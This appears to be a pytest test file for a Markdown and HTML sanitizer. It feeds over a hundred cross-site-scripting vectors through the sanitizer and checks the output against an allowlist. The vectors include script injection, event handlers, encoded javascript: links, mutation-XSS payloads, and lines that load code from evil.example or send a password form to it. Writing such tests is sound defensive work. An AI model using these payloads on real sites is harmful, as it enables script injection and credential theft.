"""Nothing that people type runs, loads from elsewhere, or imitates the page.

Each vector goes through both doors: as Markdown somebody typed, and as HTML that an import brings. What comes out is
parsed, and every element, attribute and address is held against a short list written here anew.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watercooler.spine.content.markdown import clean, plain, render

HARMLESS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong", "s", "del", "ins"),
    *("ul", "ol", "li", "input", "table", "thead", "tbody", "tr", "th", "td", "a", "img", "sup", "sub", "kbd", "mark"),
}
MAY_HAVE = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "width", "height"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
    "code": {"class"},
    "input": {"type", "checked", "disabled"},
}
SCHEMES = {"", "http", "https", "mailto", "tel"}
EMPTY = {"br", "hr", "img", "input"}

VECTORS = [
    # Elements that run or load.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=//evil.example><input name=password type=password><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open>Sign in again</dialog>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<xss-element onclick=alert(1)>x</xss-element>",
    "<markdown-editor data-draft=x></markdown-editor><toast-stack></toast-stack>",
    # Handlers and styles on elements that may stay.
    "<img src=x onerror=alert(1)>",
    "<img src=/files/1/a.png onerror=alert(1) onload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<p onmouseover=alert(1)>x</p>",
    "<p onclick\x0b=alert(1)>x</p>",
    "<a href=/ onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<p class='btn primary' id='main' hidden>x</p>",
    "<a href=/x target=_blank ping=//evil.example download>x</a>",
    "<a href=/x hx-post='/items/1/remove' hx-trigger=load data-hx-get=/x form=acts formaction=/x>x</a>",
    "<button form=acts formaction=/items/1/remove>x</button>",
    "<input type=text name=q value=x><input type=image src=x onerror=alert(1)><input>",
    "<td background=javascript:alert(1)>x</td>",
    "<code class='language-x\" onclick=alert(1)'>x</code>",
    # Addresses that run, in many spellings.
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='&NewLine;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/track.gif'>",
    "<img src='//evil.example/track.gif'>",
    "<img src='/files/../sign-out'>",
    "<img src='/files/1/../../me/settings'>",
    "<img src='/files/1/a.png?small&x=1'>",
    "<img srcset='https://evil.example/x 1x'>",
    # The same as Markdown.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    "![x](/files/1/../../sign-out)",
    '![x"onerror="alert(1)](/files/1/a.png)',
    "![x](/files/1/a.png 'x\" onerror=\"alert(1)')",
    '![x](/files/1/a.png"onerror=alert(1)//)',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'x\" onclick=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'x'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://a.example)<script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [y](javascript:alert(1))",
    "| <script> | x |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # Mentions and topics where they do not belong.
    "[x](https://a.example/@noah#Defrost)",
    "[@noah #Defrost](https://a.example)",
    "[x](https://a.example '@noah #Defrost > @priya')",
    "![@noah > #Defrost](/files/1/a.png)",
    "<a href='/x' title='@noah'>#Defrost</a>",
    "`@noah #Defrost`",
    "```\n@noah #Defrost\n```",
    '@noah"onclick=alert(1) #x"onclick=alert(1)',
    "@noah<script>alert(1)</script>#x<script>alert(1)</script>",
    "#<img/src=x/onerror=alert(1)>",
    "@<svg/onload=alert(1)>",
    "&#35;Defrost &#64;noah &num;Defrost &commat;noah",
    "@noah#Defrost@priya#Coil",
    "**@noah**_#Defrost_~~@priya~~",
    # What a second reading of the HTML might make of it (mutations).
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<table><caption><svg><title><style><!--</style></title></svg><a title='--><img src=x onerror=alert(1)>'>x</a>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>x",
    "<a title='`><img src=x onerror=alert(1)>`'>x</a>",
    "<" * 500 + "script>alert(1)",
    "<a" * 500 + " href=javascript:alert(1)>x",
]


class Seen(HTMLParser):
    """Every element and attribute that a reader of the HTML meets."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert len(dict(attrs)) == len(attrs), f"an attribute twice in <{tag}>"
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "a":
            assert "a" not in self.open, "a link within a link"
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.unbalanced.append(tag)

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration: {decl}")

    unknown_decl = handle_pi = handle_decl


def scheme_of(address: str) -> str:
    """Return the scheme as a forgiving browser reads it: control characters and white space are no hindrance."""
    return urlsplit(re.sub(r"[\x00-\x20\x7f-\xa0]", "", address)).scheme.lower()


def check(html: str) -> Seen:
    seen = Seen(html)
    for tag, attributes in seen.elements:
        assert tag in HARMLESS, f"<{tag}>"
        assert set(attributes) <= MAY_HAVE.get(tag, set()), f"<{tag} {attributes}>"
        if "href" in attributes:
            assert scheme_of(attributes["href"]) in SCHEMES, attributes["href"]
        if "src" in attributes:
            path = attributes["src"]
            assert re.fullmatch(r"/files/\d+/[^/?#]+(\?small)?", path), path
            assert ".." not in unquote(path).split("/"), path
        if tag == "input":
            assert attributes.get("type") == "checkbox"
            assert "disabled" in attributes
        if tag == "a":
            assert attributes.get("class", "mention") in {"mention", "hashtag"}
    assert not seen.open
    assert not seen.unbalanced
    return seen


@pytest.mark.parametrize("vector", VECTORS)
def test_typed_as_markdown(vector):
    rendered = render(vector)
    check(rendered.html)
    assert not re.search(r"<[a-z!/]", rendered.excerpt) or "<" in vector or "&lt;" in vector


@pytest.mark.parametrize("vector", VECTORS)
def test_brought_as_html(vector):
    once = clean(vector)
    check(once)
    twice = clean(once)  # as the browser reads it: what stood wrongly inside a table has moved out of it
    check(twice)
    assert clean(twice) == twice


def test_there_are_many_vectors():
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("@noah", '<p><a class="mention" href="/people/noah">@noah</a></p>'),
        ("Ask @Noah.", '<p>Ask <a class="mention" href="/people/noah">@Noah</a>.</p>'),
        ("(#Defrost)", '<p>(<a class="hashtag" href="/topics/defrost">#Defrost</a>)</p>'),
        ("#Wärmepumpe", '<p><a class="hashtag" href="/topics/wärmepumpe">#Wärmepumpe</a></p>'),
        ("a@b.example #1 # x C# &#39;", "<p>a@b.example #1 # x C# '</p>"),
    ],
)
def test_mentions_and_topics_are_linked(source, html):
    assert render(source).html.strip() == html


def test_what_is_in_code_mentions_nobody():
    rendered = render("`@noah` and @priya\n\n```\n#Coil\n```\n\n#Defrost [@tomasz](https://a.example)")
    assert rendered.mentions == ("priya",)
    assert rendered.hashtags == ("Defrost",)


PIECES = st.sampled_from(
    [
        *(
            "@noah",
            "#Defrost",
            "@",
            "#",
            "&",
            "&amp;",
            "&lt;",
            "<",
            ">",
            '"',
            "'",
            "`",
            "``",
            "```\n",
            "*",
            "**",
            "_",
            "~~",
        ),
        *("[", "]", "(", ")", "![", "](", "](/files/1/a.png)", "](https://a.example", " 'title"),
        *(
            "<a href=",
            "<img src=x onerror=alert(1)>",
            "<script>",
            "</p>",
            "<!--",
            "javascript:",
            "\n",
            "\n\n",
            " ",
            "    ",
        ),
        *("- ", "1. ", "> ", "# ", "|", "\n|-|\n", "\\"),
        *("\u202e", "\u200b", "é", "𝕏", "word", "- [ ] ", "&#x40;", "&num;"),
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_text_whatever_makes_bad_html(source):
    check(render(source).html)


@given(st.lists(PIECES, max_size=30).map("".join))
def test_linking_adds_no_word_and_loses_none(source):
    from watercooler.spine.content import markdown

    typed = clean(markdown._lower_headings(markdown.to_html(markdown.clean_text(source))))
    unlinked = markdown._with_links(typed)
    assert Seen(unlinked).words == Seen(typed).words or "".join(Seen(unlinked).words) == "".join(Seen(typed).words)
    linked = render(source).html
    assert Seen(linked).words == Seen(unlinked).words or "".join(Seen(linked).words) == "".join(Seen(unlinked).words)
    attributes = [each for each in Seen(linked).elements if each[1].get("class") not in {"mention", "hashtag"}]
    assert attributes == Seen(unlinked).elements


@given(st.text(max_size=200))
def test_plain_words_hold_no_markup(source):
    assert "<p>" not in plain(render(source).html) or "<p>" in source


@pytest.mark.parametrize(
    "source",
    [
        "[" * 20_000,
        "*" * 20_000 + "a",
        "> " * 5_000,
        "`" * 20_000,
        "![" * 10_000,
        "@" * 50_000,
        "#a" * 20_000,
        "<" * 50_000,
        "a" * 100_000,
        "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|b" * 5_000,
        "- " * 5_000,
        "\\" * 50_000,
        "&" * 50_000,
        "[a](" * 10_000,
        "@a." * 20_000,
        "@" + "a." * 30_000,
        "<a href='" * 5_000,
    ],
    ids=lambda text: text[:6],
)
def test_hostile_texts_are_rendered_in_reasonable_time(source):
    import time

    began = time.process_time()
    check(render(source).html)
    assert time.process_time() - began < 3
